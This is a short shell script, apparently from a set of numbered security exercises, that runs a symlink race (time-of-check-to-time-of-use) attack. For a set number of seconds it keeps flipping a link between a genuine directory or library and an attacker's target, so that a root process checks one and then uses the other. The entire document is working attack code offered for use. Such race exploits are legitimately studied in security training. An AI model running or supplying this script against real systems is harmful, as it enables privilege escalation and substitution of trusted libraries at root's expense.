#!/bin/sh
# Holes 3 and 4: point the link LINK (in the attacker's directory) at A, then at B, then
# at A…, for SECONDS: root checks what A holds (its own private directory, a genuine
# library) and then uses the path while it leads to B (the attacker's).
# Usage: flip_link.sh LINK A B SECONDS
link=$1 a=$2 b=$3 secs=$4
end=$(( $(date +%s) + secs ))
while [ "$(date +%s)" -lt "$end" ]; do
  ln -sfn "$a" "$link.new" && mv -T "$link.new" "$link"
  ln -sfn "$b" "$link.new" && mv -T "$link.new" "$link"
done
ln -sfn "$a" "$link.new" && mv -T "$link.new" "$link"
